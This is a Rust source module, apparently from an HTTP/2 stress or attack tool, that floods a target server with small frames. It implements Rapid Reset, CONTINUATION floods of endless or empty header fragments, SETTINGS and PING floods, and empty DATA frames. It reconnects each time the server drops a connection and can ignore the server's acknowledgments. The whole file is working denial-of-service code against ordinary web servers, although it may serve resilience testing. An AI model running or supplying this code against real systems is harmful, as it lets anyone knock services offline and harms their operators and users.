//! Floods of small frames that cost the server work or memory.

use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread;
use std::time::Duration;

use super::Target;
use crate::http2::{
    frame, header, request, setting, Http2, CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS,
    INITIAL_WINDOW_SIZE, PING, RST_STREAM, SETTINGS,
};

/// Units before each pause, which limits a connection to 5,000 units a second.
const BATCH: u32 = 50;
const PAUSE: Duration = Duration::from_millis(10);
/// The stream of the request that never completes.
const INCOMPLETE_STREAM: u32 = 1;

/// The repeated unit.
#[derive(Clone, Copy)]
pub(crate) enum Frames {
    /// A request, canceled immediately.
    RapidReset,
    /// A fragment of a header block that never completes.
    Continuation,
    /// An empty fragment.
    EmptyContinuation,
    /// A changed setting.
    Settings,
    /// A PING frame.
    Ping,
    /// An empty part of a body.
    EmptyData,
}

/// Sends units until `done`, over a new connection after the server closes one or stops reading. Without `reads`,
/// the server's acknowledgments are never read.
pub(crate) fn send_frames(
    frames: Frames,
    target: Target<'_>,
    reads: bool,
    done: &AtomicBool,
    sent: &AtomicU64,
) {
    let block = request("GET", target.path);
    while !done.load(Ordering::Acquire) {
        if let Ok(mut connection) = Http2::connect(target.address, &[]) {
            let mut batch = frames.opening(&mut connection, target.path);
            while !done.load(Ordering::Acquire) {
                batch.extend((0..BATCH).flat_map(|number| frames.unit(number, &mut connection, &block)));
                if connection.send(&batch).is_err() || reads && connection.discard_received().is_err() {
                    break;
                }
                sent.fetch_add(BATCH.into(), Ordering::Relaxed);
                batch.clear();
                thread::sleep(PAUSE);
            }
        }
        thread::sleep(PAUSE);
    }
}

impl Frames {
    /// Frames sent first on a connection.
    fn opening(self, connection: &mut Http2, path: &str) -> Vec<u8> {
        let flags = match self {
            Self::RapidReset | Self::Settings | Self::Ping => return Vec::new(),
            Self::Continuation | Self::EmptyContinuation => END_STREAM,
            Self::EmptyData => END_HEADERS,
        };
        frame(HEADERS, flags, connection.open_stream(), &request("POST", path))
    }

    fn unit(self, number: u32, connection: &mut Http2, block: &[u8]) -> Vec<u8> {
        match self {
            Self::RapidReset => {
                let stream = connection.open_stream();
                let head = frame(HEADERS, END_STREAM | END_HEADERS, stream, block);
                [head, frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes())].concat()
            }
            Self::Continuation => frame(
                CONTINUATION,
                0,
                INCOMPLETE_STREAM,
                &header("x-flood", &"a".repeat(1000)),
            ),
            Self::EmptyContinuation => frame(CONTINUATION, 0, INCOMPLETE_STREAM, &[]),
            Self::Settings => {
                let window = setting(INITIAL_WINDOW_SIZE, 65_535 - number % 2);
                frame(SETTINGS, 0, 0, &window)
            }
            Self::Ping => frame(PING, 0, 0, &[0; 8]),
            Self::EmptyData => frame(DATA, 0, INCOMPLETE_STREAM, &[]),
        }
    }
}
